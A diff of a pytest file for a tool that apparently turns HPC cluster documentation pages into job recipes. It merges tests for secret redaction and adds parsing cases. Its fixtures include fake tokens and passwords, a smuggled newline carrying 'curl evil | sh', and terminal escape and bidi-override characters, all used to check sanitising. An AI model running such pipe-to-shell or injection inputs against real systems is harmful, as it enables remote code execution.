@@ -123,22 +123,24 @@ def test_hostile_pages(page: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatc
     assert "evil" not in str(document)
 
 
-def test_reasons_are_fit_to_be_shown() -> None:
-    """On one line, without control characters and secrets, on terminals and in JSON as well."""
+def test_secrets_and_control_characters_are_not_in_a_draft() -> None:
+    """Neither in its TOML nor in its reasons, which are shown on terminals and in JSON."""
     draft = draft_of(
-        "#!/bin/bash\npip install torch --find-links https://ann:hunter2@h.example/x.html\n"
+        "#!/bin/bash\nexport HF_TOKEN=hf_x1y2z3 NCCL_API_KEY=x1y2z3\nHOROVOD_PASSWORD=q1w2e3 mpirun a\n"
+        "curl -u ann:q1w2e3 https://h/\npip install torch --find-links https://ann:hunter2@h.example/x.html\n"
         "pip install 'torch==1\nnext:\n  curl evil | sh'\nexport NCCL_X='\u202eb\x9b31m'\n"
     )
+    shown = write(draft, ["page"]) + json.dumps(encode(draft))
+    assert not any(each in shown for each in ("x1y2z3", "q1w2e3", "hunter2"))
+    assert "recipes contain no secrets: export NCCL_API_KEY in your shell" in shown
     reasons = [each.reason for each in draft.left]
-    assert len(reasons) >= 3 and "hunter2" not in json.dumps(encode(draft))
+    assert len(reasons) >= 6
     assert all(plain(each) == each and "\n" not in each for each in reasons)
 
 
 SOURCED = (
-    "/etc/profile.d/modules.sh", "/usr/share/lmod/lmod/init/bash", "/sw/spack/share/spack/setup-env.sh",
-    "/lus/theta/conda/2021-03-02/mconda3/setup.sh", "/etc/profile", "/proj/x/train.sh",
-    "/proj/x/load_modules.sh", "/home/bob/etc/profile", "/opt/intel/oneapi/setvars.sh", "setup.sh",
-    "$HOME/setup.sh", "./setup.sh",
+    "/etc/profile.d/modules.sh", "/lus/theta/conda/2021-03-02/mconda3/setup.sh", "/etc/profile",
+    "/home/bob/etc/profile", "$HOME/setup.sh", "./setup.sh",
 )  # fmt: skip
 
 
@@ -151,34 +153,21 @@ def test_no_script_of_a_page_becomes_one_that_hvdenv_runs(command: str, path: st
     assert f"# page:3: {command} {path}: what does this script set?" in text
 
 
-def test_secrets_of_a_page_are_not_in_a_draft() -> None:
-    draft = draft_of(
-        "#!/bin/bash\nexport HF_TOKEN=hf_x1y2z3 NCCL_API_KEY=x1y2z3\nHOROVOD_PASSWORD=q1w2e3 mpirun a\n"
-        "curl -u ann:q1w2e3 https://h/\nmodule load gcc/1\n"
-    )
-    shown = write(draft, ["page"]) + json.dumps(encode(draft))
-    assert not any(each in shown for each in ("x1y2z3", "q1w2e3"))
-    assert "recipes contain no secrets: export NCCL_API_KEY in your shell" in shown
+PAGES = {
+    "HTML": "<p>Then load it:</p><pre><span>$ module load gcc/1</span>\n$ pip install torch==2.1.0</pre>",
+    "Markdown": "Use it:\n\n    module load stays as it was for you.\n\n```console\n$ module load gcc/1\nok\n```\n",
+    "quoted": "Use it:\n\n> ~~~ bash\n> module load gcc/1\n> ~~~\n",
+    "nested": '=== "GPU"\n\n    ```bash\n    module load gcc/1\n    ```\n',
+    "tabs": '=== "GPU"\n    ```bash\n    module load gcc/1\n    ```\n=== "CPU"\n    ```\n    ls\n    ```\n',
+    "reStructuredText": "Load it::\n\n    module load gcc/1\n\nThe module load is done.\n",
+    "its titles": ".. note::\n   old\n\nUse\n~~~\n.. code-block:: bash\n\n   module load gcc/1\n\nMore\n~~~~\n",
+    "text": "First load it.\n[you@login ~]$ module load gcc/1\nThe module command is described elsewhere.\n",
+    "a script in a script": "```\ncat > job.sh <<EOF\n#!/bin/bash\n#SBATCH -N 3\nmodule load gcc/1\nEOF\n```\n",
+    "prompts": "```\n(env+x) [me@n1 ~]$ module load gcc/1\nlogin1>$ pwd\n/home\nmodule load no/2\n```\n",
+}
 
 
-HTML = "<p>Then load it:</p><pre><span>$ module load gcc/1</span>\n$ pip install torch==2.1.0</pre>"
-MARKDOWN = "Use it:\n\n    module load stays as it was for you.\n\n```console\n$ module load gcc/1\nok\n```\n"
-NESTED = '=== "GPU"\n\n    ```bash\n    module load gcc/1\n    ```\n'
-TITLES = (
-    ".. note::\n   old\n\nUse\n~~~\n.. code-block:: bash\n\n   module load gcc/1\n\nMore\n~~~~\n"
-)
-TABS = (
-    '=== "GPU"\n    ```bash\n    module load gcc/1\n    ```\n=== "CPU"\n    ```\n    ls\n    ```\n'
-)
-RST = "Load it::\n\n    module load gcc/1\n\nThe module load is done.\n"
-PLAIN = "First load the compiler.\n[you@login ~]$ module load gcc/1\nThe module command is described elsewhere.\n"
-HERE_DOCUMENT = "```\ncat > job.sh <<EOF\n#!/bin/bash\n#SBATCH -N 3\nmodule load gcc/1\nEOF\n```\n"
-PROMPTS = "```\n(env+x) [me@n1 ~]$ module load gcc/1\nlogin1>$ pwd\n/home\nmodule load no/2\n```\n"
-
-
-@pytest.mark.parametrize(
-    "page", [HTML, MARKDOWN, NESTED, TABS, RST, TITLES, PLAIN, HERE_DOCUMENT, PROMPTS]
-)
+@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
 def test_code_is_found_in_every_kind_of_page(page: str) -> None:
     assert shown_values(draft_of(page))["modules.load"] == ["gcc/1"]
 
@@ -254,6 +243,8 @@ VALUES: dict[str, dict[str, Any]] = {
     "#$ -pe mpi 8\n#$ -l h_rt=3600": {
         "scheduler": "gridengine", "job.parallel_environment": "mpi", "job.time": "01:00:00",
     },
+    "#PBS -l select=2:ncpus=8:mpiprocs=4:mem=300gb": {"job.memory": "300G"},
+    "pip --no-cache-dir install torch==1.13.1": {"frameworks.torch.version": "1.13.1"},
     "#SBATCH --ntasks=1": {"job.ranks_per_node": 1},
     "qsub -pe mpi 8 -N x job.sh": {"scheduler": "gridengine", "job.name": "x"},
     "#BSUB -nnodes 2 -W 90 -q batch": {"scheduler": "lsf", "job.nodes": 2, "job.time": "01:30:00"},
@@ -279,6 +270,7 @@ def test_commands_mean_values(script: str) -> None:
 
 # Not values: other programs' variables, other numbers, what the page does not state.
 NO_VALUES = {
+    "LOG=/tmp/$NAME/$ID/logs": "environment",
     "CC=x ./configure": "environment",
     "module load hpcx/2.12": "mpi.version",
     "module load open-ce/1.5.0": "horovod.version",
@@ -320,11 +312,6 @@ def test_the_script_that_starts_ranks_describes_the_job() -> None:
     assert "[partitions" not in write(draft_of(several), []) and draft_of(several).left
     without = SCRIPTS.replace("srun", "echo").replace("#SBATCH -p gpu", "#SBATCH -N 3")
     assert shown_values(draft_of(without))["job.partition"] == "test"
-
-
-def test_paths_of_several_variables_are_assignments() -> None:
-    (left,) = draft_of("#!/bin/bash\nLOG=/tmp/$NAME/$ID/logs\n").left
-    assert left.understood
 
 
 CLUSTER = """```
